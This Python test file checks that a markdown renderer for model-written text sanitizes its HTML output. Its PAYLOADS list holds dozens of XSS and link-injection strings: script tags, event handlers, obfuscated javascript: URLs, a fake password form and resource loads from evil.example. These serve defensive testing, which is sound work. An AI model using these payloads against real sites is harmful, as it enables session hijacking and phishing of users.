"""What models write: shown whole, and harmless whatever it is."""

import re
import time
from html.parser import HTMLParser
from urllib.parse import urlsplit

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from promptlib.core.highlight import LANGUAGES, Highlighter
from promptlib.core.markdown import MAX_CHARS, render_markdown
from promptlib.core.templatetags.interface import icon

REL = 'rel="nofollow noopener noreferrer"'
ALLOWED = {
    "a": {"href", "rel"},
    "blockquote": set(),
    "br": set(),
    "button": {"class", "type", "data-copy-from"},
    "code": set(),
    "div": {"class", "data-copy-scope", "tabindex", "role", "aria-label"},
    "em": set(),
    "h3": set(),
    "h4": set(),
    "h5": set(),
    "h6": set(),
    "hr": set(),
    "input": {"aria-label", "class", "type", "checked", "disabled"},
    "li": {"class"},
    "ol": {"start"},
    "p": set(),
    "pre": {"tabindex", "role", "aria-label"},
    "s": set(),
    "span": {"class"},
    "strong": set(),
    "svg": {"class", "aria-hidden"},
    "table": set(),
    "tbody": set(),
    "td": {"class"},
    "th": {"class", "scope"},
    "thead": set(),
    "tr": set(),
    "ul": {"class"},
    "use": {"href"},
}
CLASSES = {
    *(
        "button",
        "button--quiet",
        "button--small",
        "center",
        "code",
        "code__bar",
        "contains-task-list",
        "icon",
        "number",
    ),
    *("table-wrap", "task-list-item", "task-list-item-checkbox"),
    *(f"code__{part}" for part in ("key", "num", "name", "text", "note", "ins", "del")),
}
VOID = {"br", "hr", "input", "use"}


class _Inspector(HTMLParser):
    """Lists what a page of ours must not get from a model, and tags that do not pair up."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[object] = []
        self.open: list[str] = []
        self.text = ""
        self.feed(html)
        self.close()
        self.found += self.open

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found += [(tag, name) for name, _ in attrs if name not in ALLOWED.get(tag, set())]
        if tag not in ALLOWED:
            self.found.append(tag)
        values = dict(attrs)
        self.found += [name for name in (values.get("class") or "").split() if name not in CLASSES]
        if tag == "a" and "href" in values:
            parts = urlsplit(values["href"] or "")
            if not (parts.scheme == "mailto" or (parts.scheme in ("http", "https") and parts.netloc)):
                self.found.append(values["href"])
            if values.get("rel") != "nofollow noopener noreferrer":
                self.found.append(("rel", values.get("rel")))
        if tag == "use" and values["href"] not in str(icon("copy")):
            self.found.append(values["href"])
        if tag not in VOID:
            self.open.append(tag)

    def handle_startendtag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.handle_starttag(tag, attrs)
        if tag not in VOID:
            self.open.pop()

    def handle_endtag(self, tag: str) -> None:
        if not self.open or self.open.pop() != tag:
            self.found.append(f"</{tag}>")

    def handle_data(self, data: str) -> None:
        self.text += data

    def handle_comment(self, data: str) -> None:
        self.found.append(data)

    def handle_decl(self, decl: str) -> None:
        self.found.append(decl)

    unknown_decl = handle_pi = handle_decl


PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<img/src=x/onerror=alert(1)//",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)>",
    "<embed src=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css'</style>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<a href=javascript:alert(1)>x</a>",
    "<p style='background:url(//evil.example)' id=main class=topbar onclick=alert(1)>x</p>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<br onclick=alert(1)>",
    "<br/><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](&#x6A&#x61&#x76&#x61script:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x]( javascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](\\\\evil.example)",
    "[x](/accounts/logout/)",
    "[x](https:/accounts/logout/)",
    "[x](http:accounts/logout/)",
    "[x](?delete=1)",
    "[x](#main)",
    "[x]: javascript:alert(1)\n\n[x]",
    "[x](http://a.example 'onmouseover=alert(1)')",
    '[x](http://a.example" onmouseover="alert(1))',
    "[x](http://a.example\"onmouseover='alert(1)')",
    "<javascript:alert(1)>",
    "<http://a.example/'onclick='alert(1)>",
    "![x](http://evil.example/pixel.png)",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    '![x" onerror="alert(1)](http://a.example/x.png)',
    "[![x](http://evil.example/a.png)](javascript:alert(1))",
    "[a [b](http://b.example) ![c](http://c.example/c.png)](http://a.example)",
    'http://a.example/"onmouseover="alert(1)',
    "http://a.example/<script>alert(1)</script>",
    "javascript://a.example/%0aalert(1)",
    "# <img src=x onerror=alert(1)>",
    "- [x] <input onfocus=alert(1) autofocus>",
    "| <script>alert(1)</script> | <img src=x onerror=alert(1)> |\n|:-:|--:|\n| [x](javascript:alert(1)) | `</td>` |",
    "```html\n<script>alert(1)</script>\n</code></pre><script>alert(2)</script>\n```",
    "```<script>alert(1)</script>\nx\n```",
    '```js" onmouseover="alert(1)\nx\n```',
    "```\"'><img/src=x/onerror=alert(1)>\n</pre>\n```",
    "    </code></pre><script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    "<pre>0</pre>\n\n```\nx\n```\n\n<pre>1</pre><pre>-1</pre>",
    "<table><input ></table>",
    "> <div class=code data-copy-scope>",
    "\\<script>alert(1)\\</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "＜script＞alert(1)＜/script＞",
    "<scr\0ipt>alert(1)</scr\0ipt>",
    "<a href='http://a.example' target=_blank rel=opener>x</a>",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_payload(payload: str) -> None:
    for text in (payload, f"**{payload}**", f"- a\n\n  {payload}", f"| a |\n|---|\n| {payload} |", f"```\n\n{payload}"):
        assert _Inspector(render_markdown(text)).found == []


@settings(max_examples=300)
@given(
    st.lists(
        st.sampled_from(
            [
                *"<>\"'`[]()!*_~|#-=&:;/\\ \t\n\r\0",
                "a",
                "日",
                "\ud83d",
                "javascript:",
                "http://",
                "<pre>0</pre>",
                "onload=",
                "- [x] ",
                "```",
            ]
        )
        | st.sampled_from(PAYLOADS),
        max_size=40,
    ).map("".join)
)
def test_anything(text: str) -> None:
    assert _Inspector(render_markdown(text)).found == []


def test_tags_are_shown_as_text() -> None:
    assert render_markdown("Use `<b>` or <b>x</b> in List<T>") == (
        "<p>Use <code>&lt;b&gt;</code> or &lt;b&gt;x&lt;/b&gt; in List&lt;T&gt;</p>\n"
    )


def test_headings_lie_below_ours_and_skip_no_step() -> None:
    html = render_markdown("# A\n\n#### B\n\n## C\n\nD\n===\n\n## E\n\n### F\n\n#### G\n\n##### H")
    assert re.findall(r"<(h\d)>(\w)</h\d>", html) == [
        ("h3", "A"),
        ("h4", "B"),
        ("h4", "C"),
        ("h3", "D"),
        ("h4", "E"),
        ("h5", "F"),
        ("h6", "G"),
        ("h6", "H"),
    ]
    assert render_markdown("### Alone") == "<h3>Alone</h3>\n"


def test_pictures_become_links() -> None:
    assert render_markdown("![A *cat*](https://a.example/c.png 'title')") == (
        f'<p><a href="https://a.example/c.png" {REL}>A cat</a></p>\n'
    )
    assert render_markdown("![](https://a.example/c.png)") == (
        f'<p><a href="https://a.example/c.png" {REL}>https://a.example/c.png</a></p>\n'
    )
    assert render_markdown("[![Cat](https://a.example/c.png)](https://b.example/)") == (
        f'<p><a href="https://b.example/" {REL}>Cat</a></p>\n'
    )


@pytest.mark.parametrize(
    ("text", "href", "rest"),
    [
        ("https://a.example/b_c_d(e).", "https://a.example/b_c_d(e)", "."),
        ("(https://a.example/b)", "https://a.example/b", ")"),
        ("见https://a.example/日本。好", "https://a.example/%E6%97%A5%E6%9C%AC", "。好"),
        ("**http://a.example?x=1&y=2**", "http://a.example?x=1&amp;y=2", ""),
        ("<https://a.example>", "https://a.example", ""),
        ("[x](mailto:a@b.example)", "mailto:a@b.example", ""),
    ],
)
def test_links(text: str, href: str, rest: str) -> None:
    html = render_markdown(text)
    assert re.findall(r'<a href="([^"]*)" rel="nofollow noopener noreferrer">', html) == [href]
    assert re.sub("<[^>]+>", "", html.rpartition("</a>")[2]).strip() == rest


@pytest.mark.parametrize(
    "text", ["xhttps://a.example", "https://", "`https://a.example`", "https://)", "a://b.example"]
)
def test_what_is_no_link(text: str) -> None:
    assert "<a " not in render_markdown(text)


def test_code_has_a_bar_and_marks() -> None:
    assert render_markdown("```sql\nSELECT 'x' -- <why>\n```") == (
        '<div class="code" data-copy-scope><div class="code__bar"><span>sql</span>'
        '<button class="button button--quiet button--small" type="button" data-copy-from="code">'
        f"{icon('copy')}Copy</button></div>"
        '<pre tabindex="0" role="group" aria-label="Code: sql"><code><span class="code__key">SELECT</span> '
        '<span class="code__text">&#x27;x&#x27;</span> '
        '<span class="code__note">-- &lt;why&gt;</span></code></pre></div>\n'
    )


def test_code_without_a_language_or_an_end() -> None:
    html = render_markdown("```\na < b\n\n  c")
    assert '<pre tabindex="0" role="group" aria-label="Code"><code>a &lt; b\n\n  c</code></pre>' in html
    assert "<span></span>" in html


@pytest.mark.parametrize("language", sorted(LANGUAGES))
def test_every_language_has_a_lexer_and_loses_nothing(language: str) -> None:
    code = "\n\n# a 'b' \"c\"\t{x: 1.5e3, y: [true]} /* d */ -- é日\n<e f='g'>&amp;</e>\n+h\n-i  \n\n"
    html = Highlighter()(code, language)
    assert _Inspector(html).text == code
    assert _Inspector(html).found == []


def test_table() -> None:
    text = "| Product | 2025 | |\n|:-------|-----:|:-:|\n| `a` & b<br>c | 1 | **x** |"
    assert render_markdown(text) == (
        '<div class="table-wrap" tabindex="0" role="group" aria-label="Table: Product, 2025"><table>\n'
        '<thead>\n<tr>\n<th scope="col">Product</th>\n<th class="number" scope="col">2025</th>\n'
        '<td class="center"></td>\n'
        "</tr>\n</thead>\n<tbody>\n<tr>\n<td><code>a</code> &amp; b<br>\nc</td>\n"
        '<td class="number">1</td>\n<td class="center"><strong>x</strong></td>\n</tr>\n</tbody>\n</table></div>\n'
    )


def test_tables_keep_their_own_names() -> None:
    html = render_markdown('| a |\n|---|\n\n| " |\n|---|\n\n|   |\n|---|\n| c |')
    assert re.findall(r'aria-label="([^"]*)"', html) == ["Table: a", "Table: &quot;", "Table"]


def test_task_list() -> None:
    assert render_markdown("- [x] done\n- [ ] **open**\n- plain") == (
        '<ul class="contains-task-list">\n'
        '<li class="task-list-item"><input aria-label="Task" class="task-list-item-checkbox" '
        'type="checkbox" disabled="" checked=""> done</li>\n'
        '<li class="task-list-item"><input aria-label="Task" class="task-list-item-checkbox" '
        'type="checkbox" disabled=""> <strong>open</strong></li>\n'
        "<li>plain</li>\n</ul>\n"
    )


def test_lists_quotes_rules_and_strikes() -> None:
    assert render_markdown("3. a\n4. b\n\n> q\n\n---\n\n~~s~~ *e* **b**\nnext line") == (
        '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>\n<blockquote>\n<p>q</p>\n</blockquote>\n<hr>\n'
        "<p><s>s</s> <em>e</em> <strong>b</strong><br>\nnext line</p>\n"
    )


@pytest.mark.parametrize(
    ("text", "html"),
    [
        ("**重要：**请注意", "<strong>重要：</strong>请注意"),
        ("请**「重要」**看", "请<strong>「重要」</strong>看"),
        ("これは*強調。*です", "これは<em>強調。</em>です"),
        ("한국어**강조(强)**는", "한국어<strong>강조(强)</strong>는"),
        ("日本 ** 空白 ** 語", "日本 ** 空白 ** 語"),
        ("العربية **نص**", "العربية <strong>نص</strong>"),
        ("👍🏽 **b**", "👍🏽 <strong>b</strong>"),
    ],
)
def test_scripts_without_spaces(text: str, html: str) -> None:
    assert render_markdown(text) == f"<p>{html}</p>\n"


def test_nothing_from_nothing() -> None:
    assert render_markdown("") == ""
    assert render_markdown(" \n\t\n") == ""


@pytest.mark.parametrize(
    "text",
    [
        "> " * 200 + "the end",
        "\n".join("  " * depth + "- a" for depth in range(120)) + "\n\nthe end",
        "a " * (MAX_CHARS // 2) + "\n\n**the end**",
        "- a\n" * 20_001 + "the end",
        "[" * 4_000 + "the end",
    ],
    ids=["quotes", "lists", "characters", "lines", "brackets"],
)
def test_too_much_is_shown_as_written(text: str) -> None:
    html = render_markdown(text)
    assert re.sub(r"\s+", "", _Inspector(html).text) == re.sub(r"\s+", "", text)


def test_deep_but_not_too_deep_is_rendered() -> None:
    html = render_markdown("\n".join("  " * depth + f"- {depth}" for depth in range(30)))
    assert html.count("<ul>") == 30
    assert "<li>29</li>" in html


@pytest.mark.parametrize(
    "unit",
    [
        "![",
        "[a](",
        "*a **b ",
        "`a ",
        "~~a ",
        "> ",
        "- ",
        "|a",
        "<a ",
        "&a;",
        "http://a.b/)",
        "```\n",
        "|a|\n|-|\n\n",
        "_a__b",
    ],
)
def test_hostile_text_takes_bounded_time(unit: str) -> None:
    started = time.thread_time()
    render_markdown((unit * MAX_CHARS)[:MAX_CHARS])
    assert time.thread_time() - started < 15


@pytest.mark.parametrize(
    ("language", "unit"), [("c", "\n"), ("csharp", "a\n"), ("typescript", "a."), ("terraform", "-a")]
)
def test_hostile_code_stays_plain(language: str, unit: str) -> None:
    code = (unit * 5_000)[:10_000]
    started = time.thread_time()
    assert Highlighter()(code, language) == code
    assert time.thread_time() - started < 3


@pytest.mark.parametrize(
    "text", ["http:///(", "https://?q=1", "see http://#x here", "[x](http:///y)", "[x](https://?y)"]
)
def test_an_address_without_a_host_is_text(text: str) -> None:
    assert "<a " not in render_markdown(text)
